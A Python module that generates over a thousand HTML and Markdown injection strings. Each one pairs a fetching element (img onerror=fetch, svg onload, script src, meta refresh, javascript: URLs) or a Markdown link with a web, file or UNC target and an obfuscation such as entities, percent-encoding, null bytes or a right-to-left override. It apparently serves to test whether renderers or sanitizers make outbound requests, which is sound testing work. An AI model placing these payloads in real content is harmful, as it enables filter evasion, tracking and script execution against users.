"""Markup that tries to load, run or open something, made by rule: tags × targets × disguises.

`shapes(web, file)` gives more than thirteen hundred texts; `web` is the address of a server that
counts who knocks, `file` a picture that counts who looks.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator

#: Elements that name something to fetch, run or go to; `{}` is where the target stands.
ELEMENTS = (
    "<img src={}>",
    "<img srcset={}>",
    "<img src=x onerror=fetch({})>",
    "<img lowsrc={} dynsrc={}>",
    "<image href={}>",
    "<input type=image src={}>",
    "<video poster={} src={} autoplay></video>",
    "<audio src={} autoplay></audio>",
    "<source src={}><track src={}>",
    "<picture><source srcset={}><img src={}></picture>",
    "<iframe src={}></iframe>",
    "<iframe srcdoc='<img src={}>'></iframe>",
    "<frameset><frame src={}></frameset>",
    "<object data={}></object>",
    "<embed src={}>",
    "<applet code={}></applet>",
    "<link rel=stylesheet href={}>",
    "<link rel=prefetch href={}>",
    "<link rel=icon href={}>",
    "<style>@import {};</style>",
    "<style>body {{ background: url({}) }}</style>",
    "<p style='background-image: url({})'>x</p>",
    "<p style='list-style: url({})'>x</p>",
    "<body background={}>",
    "<table background={}><tr><td background={}>x</td></tr></table>",
    "<script src={}></script>",
    "<meta http-equiv=refresh content='0; url={}'>",
    "<base href={}><img src=a.png>",
    "<form action={}><button>x</button></form>",
    "<a href={}>x</a>",
    "<a href=x ping={}>x</a>",
    "<a name=x title='<img src={}>'>x</a>",
    "<area href={}>",
    "<svg><image href={} /></svg>",
    "<svg><use xlink:href={} /></svg>",
    "<svg onload=fetch({})></svg>",
    "<svg><style>@import {}</style></svg>",
    "<math href={}>x</math>",
    "<html manifest={}>",
    "<bgsound src={}>",
    "<blockquote cite={}>x</blockquote>",
    "<details open ontoggle=fetch({})>x</details>",
    "<xml src={}></xml>",
    "<?xml-stylesheet href={} ?>",
    "<!DOCTYPE x SYSTEM {}>",
    "<!--><img src={}>-->",
    "<![CDATA[<img src={}>]]>",
    "<ul type={}><li style='list-style-image: url({})'>x</ul>",
)
#: The same in Markdown's own words.
MARKDOWN = (
    "![a]({})",
    "![a](<{}>)",
    '![a]({} "title")',
    "![a][b]\n\n[b]: {}",
    "![b]\n\n[b]: <{}> 'title'",
    "[a]({})",
    "[a](<{}>)",
    "[a]({} \"<img src='{}'>\")",
    "[a][b]\n\n[b]: {}",
    "[![a]({})]({})",
    "<{}>",
    "{}",
    "- ![a]({})\n\n| a |\n| - |\n| ![a]({}) |",
    "# ![a]({})",
    "> [a]({})",
    "`` ` `` <img src={}> `",
    "```\n```\n<img src={}>",
    "    code\n\n<img src={}>",
    "[a](\n{})",
    "**[a]({})**~~![a]({})~~",
    "*[a](javascript:{})*",
    "[<img src={}>](https://a.example)",
    "\\![a]({})\\<img src={}>",
    "<div markdown=1>\n![a]({})\n</div>",
    "[a]: {}\n\n[a]",
    "![a](\u200b{})",
)


def _targets(web: str, file: str) -> tuple[str, ...]:
    host = web.partition("//")[2]
    return (
        f"{web}/a.png",
        f"//{host}/b.png",
        f"\\\\{host}\\c.png",
        f"file://{file}",
        file,
        f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='{web}/d'/></svg>",
        f"javascript:fetch('{web}/e')",
        f"qrc:/../..{file}",
        f"ftp://{host}/f",
        f"mailto:a@b.example?attach={file}",
        f"view-source:{web}/g",
        f"x{web}/h",
    )


def _entities(text: str) -> str:
    return "".join(f"&#x{ord(sign):x};" for sign in text)


def _decimal(text: str) -> str:
    return "".join(f"&#{ord(sign):07d}" for sign in text)


def _percent(text: str) -> str:
    return "".join(f"%{byte:02x}" for byte in text.encode())


#: How the target is written.
DISGUISES: tuple[Callable[[str], str], ...] = (
    lambda target: target,
    lambda target: f'"{target}"',
    lambda target: f"'{target}'",
    lambda target: f"`{target}`",
    lambda target: f'"{_entities(target)}"',
    lambda target: f'"{_decimal(target)}"',
    lambda target: f'"{_percent(target)}"',
    lambda target: f'" \x01\t{target}"',
    lambda target: '"' + "\n".join((target[:4], target[4:])) + '"',
    lambda target: f'"{target.upper()}"',
)
#: How the element is written.
DISFIGURED: tuple[Callable[[str], str], ...] = (
    lambda markup: markup,
    lambda markup: markup.swapcase(),
    lambda markup: markup.replace(" ", "/", 1),
    lambda markup: f"<{markup}",
    lambda markup: markup.replace("<", "<\0", 1),
    lambda markup: markup.rstrip(">"),
    lambda markup: f"</p>{markup}",
    lambda markup: f"<b title='>'>{markup}",
    lambda markup: markup.replace("<", "&lt;").replace("&lt;", "<"),
    lambda markup: markup.replace("=", " = ", 1),
    lambda markup: f"\u202e{markup}\u202c",
    lambda markup: f"text\n{markup}\ntext",
)


def shapes(web: str, file: str) -> Iterator[str]:
    """Yield every text once: each element with each target, disguised by turns."""
    turn = 0
    for number, element in enumerate(ELEMENTS):
        for target in _targets(web, file):
            for step in range(2):
                turn += 1
                written = DISGUISES[(turn + step * 3) % len(DISGUISES)](target)
                disfigure = DISFIGURED[(turn // 5 + number + step) % len(DISFIGURED)]
                slots = element.count("{}")
                yield disfigure(element.format(*[written] * slots))
    for words in MARKDOWN:
        for target in _targets(web, file):
            slots = words.count("{}")
            yield words.format(*[target] * slots)
            yield words.format(*[_entities(target)] * slots)
